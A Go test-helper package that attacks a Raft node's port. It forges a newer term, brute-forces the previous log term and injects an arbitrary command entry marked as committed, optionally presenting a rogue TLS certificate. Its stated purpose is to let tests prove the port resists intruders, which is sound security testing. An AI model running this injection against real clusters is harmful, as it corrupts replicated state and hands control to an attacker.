// Package raftattack speaks the Raft wire protocol to a node the way an
// attacker who reaches its Raft port would: it claims a newer term,
// finds the end of the node's log and appends a command of its choosing,
// committing it at once. Tests use it to prove the Raft port holds.
package raftattack

import (
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"time"

	"github.com/hashicorp/raft"
)

// Result is what the node answered.
type Result struct {
	// Applied: the node accepted the entry as committed.
	Applied bool
	// Index is where the entry was appended.
	Index uint64
}

// Inject appends data as a command entry to the log of the node at addr
// and tells it the entry is committed. tlsCfg, if set, is what the
// attacker presents (a certificate of its own, or of another CA).
func Inject(addr string, tlsCfg *tls.Config, data []byte) (Result, error) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return Result{}, err
	}
	trans := raft.NewNetworkTransport(&layer{ln: ln, tls: tlsCfg}, 1, 3*time.Second, io.Discard)
	defer trans.Close()
	target := raft.ServerAddress(addr)
	hdr := raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte("intruder"), Addr: []byte(trans.LocalAddr())}
	term := uint64(time.Now().UnixNano()) // newer than any real term

	// A heartbeat with no entries answers with the node's last index.
	var probe raft.AppendEntriesResponse
	if err := trans.AppendEntries("target", target, &raft.AppendEntriesRequest{RPCHeader: hdr, Term: term}, &probe); err != nil {
		return Result{}, fmt.Errorf("raftattack: probe: %w", err)
	}
	last := probe.LastLog
	// The term of the last entry is not told; real terms are small.
	for prevTerm := uint64(0); prevTerm < 1000; prevTerm++ {
		req := &raft.AppendEntriesRequest{
			RPCHeader: hdr, Term: term, PrevLogEntry: last, PrevLogTerm: prevTerm,
			Entries:           []*raft.Log{{Index: last + 1, Term: term, Type: raft.LogCommand, Data: data, AppendedAt: time.Now()}},
			LeaderCommitIndex: last + 1,
		}
		var resp raft.AppendEntriesResponse
		if err := trans.AppendEntries("target", target, req, &resp); err != nil {
			return Result{}, fmt.Errorf("raftattack: append: %w", err)
		}
		if resp.Success {
			return Result{Applied: true, Index: last + 1}, nil
		}
		if resp.LastLog != last { // the log moved under us: start over
			last = resp.LastLog
			prevTerm = 0
		}
	}
	return Result{}, nil
}

type layer struct {
	ln  net.Listener
	tls *tls.Config
}

func (l *layer) Accept() (net.Conn, error) { return l.ln.Accept() }
func (l *layer) Close() error              { return l.ln.Close() }
func (l *layer) Addr() net.Addr            { return l.ln.Addr() }

func (l *layer) Dial(addr raft.ServerAddress, timeout time.Duration) (net.Conn, error) {
	c, err := net.DialTimeout("tcp", string(addr), timeout)
	if err != nil || l.tls == nil {
		return c, err
	}
	tc := tls.Client(c, l.tls)
	tc.SetDeadline(time.Now().Add(timeout))
	if err := tc.Handshake(); err != nil {
		c.Close()
		return nil, err
	}
	tc.SetDeadline(time.Time{})
	return tc, nil
}
